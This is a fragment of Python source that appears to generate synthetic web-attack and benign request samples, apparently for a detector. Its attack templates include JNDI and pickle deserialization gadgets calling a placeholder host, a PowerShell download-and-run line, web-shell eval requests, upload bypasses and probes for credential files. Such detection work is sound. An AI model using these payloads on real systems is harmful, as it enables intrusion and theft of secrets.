        "rO0ABXNy{b64}{b64}", "rO0ABXVy{b64}{b64}{b64}", "rO0AB{b64}", "aced0005737200{hex}{hex}", "H4sIAAAAAAAAA{b64}{b64}ysoserial", "O:{d}:\"{W}\":{d}:{{s:{d}:\"{w}\";s:{d}:\"{w}\";}}", "O:{m}:\"{W}_{W}\":1:{{s:{d}:\"\x00*\x00{w}\";O:{d}:\"{W}\":0:{{}}}}", "a:2:{{i:{d};O:{m}:\"{W}\\{W}\":{d}:{{s:{d}:\"{w}\";b:1;}}}}", "O:+{d}:\"{W}\":0:{{}}", "Tzo{d}Oi{b64}{b64}", "TzoxMjoi{b64}", "YTo{d}OntpOjA7Tzo{d}{b64}", "O%3A{d}%3A%22{W}%22%3A{d}%3A%7Bs%3A{d}%3A%22{w}%22%3Bs%3A{d}%3A%22{w}%22%3B%7D",
        "AAEAAAD/////AQAAAAAAAAA{b64}{b64}", "/wEy{b64}AAEAAAD/////{b64}", "gASV{b64}{b64}", "gAJjcG9zaXgKc3lzdGVtC{b64}", "cos\nsystem\n(S'{x}'\ntR.", "c__builtin__\neval\n(S'{w}'\ntR.", "KGRwMApT{b64}Y29zCnN5c3RlbQo{b64}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{out}/\"]]]]", "!!python/object/apply:os.system [\"{x}\"]", "!!python/object/new:{w}.{w} [{n}]", "--- !ruby/object:Gem::Installer\n  i: {w}", "BAhvOg{b64}", "!!com.sun.rowset.JdbcRowSetImpl\n dataSourceName: \"ldap://{out}/{w}\"\n autoCommit: true",
        "{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"{by}://{out}/{w}\",\"autoCommit\":true}}", "{{\"@type\":\"java.net.Inet4Address\",\"val\":\"{out}\"}}", "{{\"{l}\":{{\"@type\":\"java.lang.Class\",\"val\":\"com.{w}.{w}.{W}\"}}}}", "{{\"@type\":\"org.apache.{w}.{w}.{W}\",\"properties\":{{\"{w}\":\"{by}://{out}\"}}}}", "[\"com.{w}.{w}.{W}DataSource\",{{\"url\":\"jdbc:h2:mem:;init=runscript from 'http://{out}/{w}.sql'\"}}]", "POST /{w}\n{{\"@type\":\"com.{w}.{w}.{W}\",\"{w}\":\"rmi://{out}/{w}\"}}", "[\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"http://{out}/{w}.xml\"]", "{{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{{\"$values\":[\"cmd\",\"/c {x}\"]}}}}", "{{\"$type\":\"System.{W}.{W}, System\",\"path\":\"\\\\\\\\{out}\\\\{w}\"}}",
        "{{\"{w}\":\"_$$ND_FUNC$$_function (){{require('child_process').exec('{x}')}}()\"}}", "POST /{w}/{w}\n<java><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"{d}\"><void index=\"0\"><string>{x}</string></void></array><void method=\"start\"/></void></java>", "<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"/></java>", "POST /{w}\n<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>{x}</string></command></target></handler></dynamic-proxy></sorted-set>", "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>{d}</flags></jdk.nashorn.internal.objects.NativeString></entry></map>", "jdbc:h2:mem:{w};TRACE_LEVEL_SYSTEM_OUT={d};INIT=RUNSCRIPT FROM 'http://{out}/{w}.sql'",
    ), (
        "{b64}", "{b64}{b64}", "{b64}{b64}{b64}", "{jwt}", "{hex}{hex}", "eyJ{b64}{b64}", "YTo{d}Ontz{b64}{b64}", "YTo{d}Ontp{b64}", "H4sIAAAAAAAAA{b64}{b64}", "/wEPDwUK{b64}{b64}", "/wEdAA{b64}{b64}", "a:{d}:{{s:{d}:\"{w}\";s:{d}:\"{w}\";}}", "a:{d}:{{i:0;s:{d}:\"{w}\";i:1;i:{n};}}", "{w}|s:{d}:\"{w}\";{w}|i:{n};", "s:{d}:\"{w}\";", "i:{n};", "b:1;", "user|a:1:{{i:0;i:{n};}}", "&__VIEWSTATE=/wEPDwUK{b64}{b64}&__EVENTVALIDATION=/wEW{b64}&{w}={w}", "&__EVENTTARGET={w}&__EVENTARGUMENT=&{w}={w}",
        "{{\"@type\":\"Person\",\"@context\":\"https://schema.org\",\"name\":\"{p}\"}}", "{{\"@type\":\"{W}\",\"{w}\":\"{w}\"}}", "{{\"type\":\"{w}\",\"class\":\"com.{w}.{W}\"}}", "{{\"type\":\"java.lang.String\",\"value\":\"{w}\"}}", "POST /{w}\n{{\"@context\":\"https://{w}.example/{w}\",\"@type\":\"{W}\",\"@id\":\"{n}\"}}", "{w}:\n  - {w}\n  - {w}: {n}", "---\n{w}: {w}\n{w}: {n}", "[\"{w}\",{{\"{w}\":{n}}}]", "jdbc:mysql://{w}.example:3306/{w}", "o: {n}: {w}", "<{w} class=\"{w}\"><string name=\"{w}\">{w}</string></{w}>", "PHNhbWxwOlJlc3BvbnNl{b64}{b64}", "iVBORw0KGgo{b64}", "JVBERi0x{b64}{b64}", "SGVsbG8g{b64}", "function of {w} ({w})",
    )),
    "web shell": Family(("cmd", "c", "code", "exec", "z0", "pass"), (
        "GET /{w}/{w}.{ext}?cmd={x}", "GET /uploads/{w}.{ext}?{l}={x}", "GET /{hex6}.{ext}?pwd={n}&i={x}", "GET /{w}/shell.{ext}", "GET /images/{w}.{ext}?exec={x}", "GET /{w}/cmd.{ext}?cmd=whoami", "GET /wp-content/uploads/{y}/0{d}/{w}.php?{l}={x}", "GET /c99.php?act=ls&d=/{w}/", "GET /{w}/r57.php", "GET /{w}/wso.php?a=FilesMan", "GET /b374k.php", "GET /{w}/webshell.{ext}", "GET /aspnet_client/{w}.aspx?exec_code=Response.Write({n}*{m});", "GET /owa/auth/{hex6}.aspx?cmd={x}", "GET /{w}/{w}.jpg/{w}.php?0={x}",
        "POST /{w}.{ext}\n{l}=@eval(base64_decode($_POST[z{d}]));&z{d}={b64}", "POST /{w}/{w}.{ext}\n{w}=echo('{w}');die();", "POST /{w}.php\npass=system('{x}');", "POST /{w}/{w}.aspx\n{w}=Response.Write(new ActiveXObject(\"WScript.Shell\").exec(\"cmd /c {x}\").StdOut.ReadAll());", "POST /{w}.php\n{l}=eval(gzinflate(base64_decode('{b64}')));", "@eval(base64_decode('{b64}'))", "eval(base64_decode({b64}))", "system('{x}');", "@ini_set(\"display_errors\",\"0\");@set_time_limit(0);echo(\"{w}\");", "phpinfo();", "echo md5({n});", "assert(base64_decode('{b64}'))", "die(md5({n}));", "print(md5({n}))", "POST /{w}.jsp\ncmd={x}&{w}={w}", "cmd.exe /c {x}", "powershell -nop -w hidden -enc {b64}", "powershell iex(new-object net.webclient).downloadstring('http://{out}/{w}')",
    ), (
        "GET /uploads/{w}.{pic}", "GET /{w}/{w}.php?act=view&id={n}", "GET /{w}.php?cmd=list", "GET /{w}/{w}.php?c={n}", "GET /cmd/{w}", "GET /{w}/{w}.jsp?cmd=show&{w}={n}", "GET /{w}/{w}.aspx?i={n}", "GET /wp-content/uploads/{y}/0{d}/{w}.{pic}", "GET /wp-includes/js/{w}.min.js?ver={d}.{m}", "GET /images/{w}/{w}.{pic}", "GET /aspnet_client/system_web/{d}_0_{n}/{w}.js", "GET /owa/auth/logon.aspx?replaceCurrent=1&url={w}", "POST /{w}.php\naction={w}&c={n}&pass={w}", "POST /{w}/{w}.aspx\n{w}={w}&{w}={n}", "POST /wp-admin/admin-ajax.php\naction={w}_{w}&nonce={hex6}", "GET /shell/{w}", "&{l}={w}", "&{l}={n}", "&{l}{l}={w}&{l}={w}", "GET /{w}/sea-shell.html", "GET /{w}/{w}.cgi?id={n}",
        "list", "run", "start {w}", "exec", "show {w}", "save", "echo", "system {w}", "print {w}", "{hex6}", "system({w})", "code {n}", "php {w} info", "md5: {hex}", "powershell {w} {w}", "cmd {w}", "eval {w}",
    )),
    "upload": Family(("filename", "file", "name", "upload", "dest"), (
        "POST /{w}/upload.php\n" + _EDGE + "{w}.{ext}\"\nContent-Type: image/{w}\n\n{php}", "POST /upload\n" + _EDGE + "{w}.{pic}.{ext}\"\n\n{java}", "POST /{w}/{w}\n" + _EDGE + "{w}.{ext}.{pic}\"\n\nGIF89a;{php}", "POST /{w}\n" + _EDGE + "../../{w}/{w}.{ext}\"\n\n{w}", "POST /{w}\n" + _EDGE + ".htaccess\"\n\nAddType application/x-httpd-php .{pic}", "POST /fileupload\n" + _EDGE + "{w}.{ext}%00.{pic}\"\n\n{php}", "PUT /{w}.jsp/\n{java}", "PUT /{w}/{w}.{ext}\n{php}", "PUT /{w}.txt\n{java}", "POST /{w}/{w}\n" + _EDGE + "{w}.aspx\"\n\n{java}", "POST /{w}\n" + _EDGE + "{w}.svg\"\n\n<svg onload=alert({n})>", "POST /{w}?filename=../{w}/{w}.jsp\n{java}",
        "{w}.{pic}.{ext}", "{w}.{ext}%00.{pic}", "../../{w}.{ext}", "{w}.{ext}::$DATA", "shell.{ext}", "{w}.php;.{pic}", "{php}", "{java}", "GIF89a{php}", "MOVE /{w}.txt", "PUT /api/{w}/../{w}.{ext}\n{php}",
    ), (
        "POST /{w}/upload\n" + _EDGE + "{w}.{pic}\"\nContent-Type: image/{w}\n\n{b64}", "POST /upload.php\n" + _EDGE + "{W} {w} {y}.{pic}\"\n\n%PDF-1.{d} {b64}", "POST /{w}/{w}\n" + _EDGE + "{w}.csv\"\nContent-Type: text/csv\n\n{w},{w}\n{w},{n}\n{w},{n}", "POST /fileupload\n" + _EDGE + "{w}-{d}.{m}.tar.gz\"\n\n{b64}{b64}", "POST /{w}\n" + _EDGE + "{w}.svg\"\n\n<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M{n} {m}\"/></svg>", "POST /{w}\n" + _EDGE + "{w}.html\"\n\n" + _PAGE, "POST /{w}\n" + _EDGE + "{w}.{pic}\"\n\nGIF89a{b64}", "PUT /{w}/{w}.{pic}\n{b64}", "PUT /{w}/{n}\n{{\"{w}\":\"{w}\"}}", "PUT /{w}.txt\n{w} {w} {w}",
        "{w}.{pic}", "{W} {w} ({d}).{pic}", "{w}.{w}.{pic}", "IMG_{y}0{d}1{d}_{n}.{pic}", "{w}.min.js", "{w}-v{d}.{m}.zip", "../{w}.{pic}", "{w}.php", "{w}.jsp", "GIF", "MOVE /{w}/{w}",
    )),
    "probe": Family(("file", "path"), (
        "GET /.env", "GET /{w}/.env", "GET /.env.{w}", "GET /.env.bak", "GET /.git/config", "GET /{w}/.git/HEAD", "GET /.git/index", "GET /.svn/entries", "GET /.hg/{w}", "GET /.aws/credentials", "GET /{w}/.aws/config", "GET /.ssh/id_rsa", "GET /.htpasswd", "GET /{w}/.htaccess", "GET /.DS_Store", "GET /.npmrc", "GET /.bash_history", "GET /.vscode/sftp.json", "GET /.docker/config.json", "GET /.kube/config",
        "GET /wp-config.php.bak", "GET /wp-config.php~", "GET /{w}/config.php.old", "GET /{w}.php.bak", "GET /{w}.php.swp", "GET /{w}.php.save", "GET /config.inc.php~", "GET /web.config", "GET /{w}/web.config.bak", "GET /WEB-INF/web.xml", "GET /{w}/WEB-INF/classes/{w}.properties", "GET /META-INF/context.xml", "GET /application.properties", "GET /appsettings.json", "GET /docker-compose.yml", "GET /config/database.yml", "GET /{w}/secrets.yml", "GET /server.key", "GET /{w}.pem",
        "GET /backup.sql", "GET /dump.sql.gz", "GET /{w}/db.sql", "GET /database.sqlite", "GET /{w}.sql", "GET /backup.zip", "GET /www.tar.gz", "GET /{w}.bak", "GET /phpinfo.php", "GET /{w}/info.php", "GET /server-status", "GET /actuator/env", "GET /actuator/heapdump", "GET /{w}/actuator/jolokia", "GET /debug/pprof/", "GET /_profiler/phpinfo", "GET /telescope/requests", "GET /cgi-bin/test-cgi", "GET /cgi-bin/{w}.sh", "GET /vendor/{w}/{w}/src/{w}/eval-stdin.php",
        ".env", ".git/config", "web.config", "/WEB-INF/web.xml", "wp-config.php", ".htpasswd", "application.yml", "id_rsa", "config.inc.php",
    ), (
        "GET /.well-known/security.txt", "GET /.well-known/acme-challenge/{hex}", "GET /.well-known/openid-configuration", "GET /.well-known/assetlinks.json", "GET /.well-known/apple-app-site-association", "GET /env.js", "GET /{w}/env/{w}", "GET /git/{w}", "GET /{w}/{w}.git/info/refs?service=git-upload-pack", "GET /manifest.json", "GET /config.json", "GET /{w}/config/{w}", "GET /settings", "GET /{w}/docker/{w}", "GET /docs/htaccess.html", "GET /{w}/web-config/{n}", "GET /robots.txt", "GET /sitemap.xml", "GET /favicon.ico", "GET /crossdomain.xml", "GET /humans.txt", "GET /apple-touch-icon-{m}x{m}.png",
        "GET /files/{w}-{d}.{m}.tar.gz", "GET /downloads/{w}.zip", "GET /{w}/{w}.sql.html", "GET /backup/{w}", "GET /{w}/status", "GET /health", "GET /actuator/health", "GET /api/{w}/info", "GET /info/{w}", "GET /{w}/index.php", "GET /cgi-bin/{w}.cgi?{w}={n}", "GET /wp-login.php", "GET /wp-json/wp/v2/posts?per_page={m}", "GET /xmlrpc.php", "GET /{w}/{w}.yml", "GET /{w}.properties", "GET /{w}/.{w}/", "GET /~{w}/", "GET /~{w}/{w}.html", "GET /projects/{w}/{w}.pem.html", "GET /blog/geekery/{w}-{w}.html", "GET /{w}/debug/{w}", "GET /server/{w}", "GET /vendor/{w}/{w}/{w}.min.css", "env", "config {w}", "{w}.yml", "web config", "backup", ".{w}", "{w}.conf",
    )),
    "prototype": Family(("data", "options", "settings", "config", "filter"), (
        "&__proto__[{w}]={w}", "&__proto__.{w}={w}", "&constructor[prototype][{w}]={w}", "&constructor.prototype.{w}={n}", "&{w}[__proto__][{w}]={w}", "&{w}[constructor][prototype][{w}]={n}", "&{w}.__proto__.{w}=true", "{{\"__proto__\":{{\"{w}\":true}}}}", "{{\"__proto__\":{{\"isAdmin\":true,\"{w}\":\"{w}\"}}}}", "{{\"constructor\":{{\"prototype\":{{\"{w}\":\"{w}\"}}}}}}", "POST /{w}/{w}\n{{\"{w}\":\"{w}\",\"__proto__\":{{\"{w}\":\"{w}\"}}}}", "POST /{w}\n{{\"constructor\":{{\"prototype\":{{\"{w}\":{n}}}}},\"{w}\":{n}}}", "PATCH /{w}/{n}\n{{\"{w}\":{{\"__proto__\":{{\"shell\":\"node\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}}}}", "__proto__", "__proto__[{w}]", "{{\"__proto__.{w}\":\"{w}\"}}", "&__pro__proto__to__[{w}]={w}", "GET /#__proto__[{w}]={w}", "[\"__proto__\",\"{w}\"]",
    ), (
        "&constructor={W}", "&prototype={w}&{w}={n}", "&{w}[prototype]={n}", "&proto=https&{w}={n}", "&_proto={w}", "&{w}[{w}][{w}]={w}", "&__typename={W}&{w}={n}", "&__v={d}&_id={hex}", "{{\"prototype\":\"v{d}\",\"{w}\":true}}", "{{\"constructor\":\"{W}\",\"team\":\"{w}\"}}", "POST /{w}\n{{\"__typename\":\"{W}\",\"{w}\":{{\"{w}\":true}}}}", "PATCH /{w}/{n}\n{{\"{w}\":{{\"isAdmin\":true}}}}", "{{\"{w}\":{{\"{w}\":{{\"{w}\":\"{w}\"}}}}}}", "__{w}__", "the {w} prototype", "{w}.{w}={w}", "&{w}.{w}.{w}={n}", "&__{w}={hex}", "POST /graphql\n{{\"query\":\"{{ {w}(id:{n}) {{ __typename {w} }} }}\"}}", "POST /{w}\n{{\"{w}\":\"{w}\",\"{w}\":{{\"{w}\":\"{w}\"}}}}",
    )),
}
